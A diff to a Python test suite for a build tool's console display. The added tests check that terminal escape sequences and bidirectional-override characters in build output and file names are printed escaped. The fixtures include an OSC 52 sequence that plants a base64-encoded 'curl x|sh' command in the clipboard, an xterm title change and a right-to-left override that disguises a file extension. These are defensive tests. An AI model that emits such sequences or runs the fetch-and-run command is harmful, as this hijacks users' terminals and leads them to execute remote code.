@@ -19,10 +19,13 @@ from buildkit.ui.console import LiveDisplay, PlainDisplay
 from buildkit.ui.views import say, show_doctor
 from testkit import hosts
 
-# Any C0 or C1 control character, DEL, and the Unicode line and paragraph separators; a line feed ends a line.
-CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]")
+# Any C0 or C1 control character, DEL, the Unicode line and paragraph separators, and the bidirectional
+# formatting characters (an override shows a name's characters in another order: "Trojan Source"); a line feed ends a line.
+CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
 TITLE = "\x1b]0;owned\x07"  # an xterm title change
 RED = "\x1b[31m"
+CLIPBOARD = "\x1b]52;c;Y3VybCB4fHNo\x07"  # OSC 52: the terminal's clipboard set to `curl x|sh`
+BIDI = "\u202egnp.\u202d"  # a right-to-left override
 
 
 def hostile_amd_host(root: Path) -> Path:
@@ -83,11 +86,33 @@ def test_build_output_lines_are_escaped_and_never_markup():
         display.live.refresh()
         shown = live.export_text(clear=False)
         display.finished(result)
+        display.step("t1", f"pushed {CLIPBOARD}{BIDI}")  # after its build: a line of its own
     # the live table showed the step as written: brackets and emoji codes included
     assert "[stage-0 6/7] RUN echo [/] [bold red]x[/bold red] :fire:" in shown
+    printed = live.export_text()
+    assert_escaped(printed)
+    assert "t1: pushed \\x1b]52;c;Y3VybCB4fHNo\\x07\\u202egnp.\\u202d" in printed
 
 
 def test_say_escapes_everything_but_its_own_line_breaks():
     out = io.StringIO()
     say(Console(file=out, width=200), f"first [b]line[/b] {RED}\nsecond\u2028line\r")
     assert out.getvalue() == "first [b]line[/b] \\x1b[31m\nsecond\\u2028line\\r\n"
+
+
+def test_a_matrix_file_named_with_escape_sequences_is_shown_escaped(cli, tmp_path):
+    """A file name is the one part of a matrix no grammar checks: `matrix show` once crashed on an ESC in it (tomlkit
+    refuses one in a comment) and `matrix validate --format github` printed it raw."""
+    good = tmp_path / f"team{CLIPBOARD}{BIDI}.toml"
+    good.write_text('extends = "default"\nregistry = "registry.example"\n')
+    shown = cli("matrix", "show", "--matrix", good)
+    assert shown.code == 0 and "Traceback" not in shown.err and "internal error" not in shown.err, shown.err
+    assert_escaped(shown.out)
+    assert 'registry = "registry.example" # ' in shown.out and "team\\x1b]52;c;Y3VybCB4fHNo\\x07\\u202egnp.\\u202d.toml" in shown.out
+    bad = tmp_path / f"bad{RED}{BIDI}.toml"
+    bad.write_text('extends = "default"\nregistry = 5\n')
+    for format in ("text", "github"):
+        result = cli("matrix", "validate", "--format", format, "--matrix", bad)
+        assert result.code == 2 and "Traceback" not in result.err
+        assert_escaped(result.out + result.err)
+        assert "bad\\x1b[31m\\u202egnp.\\u202d.toml" in result.out + result.err
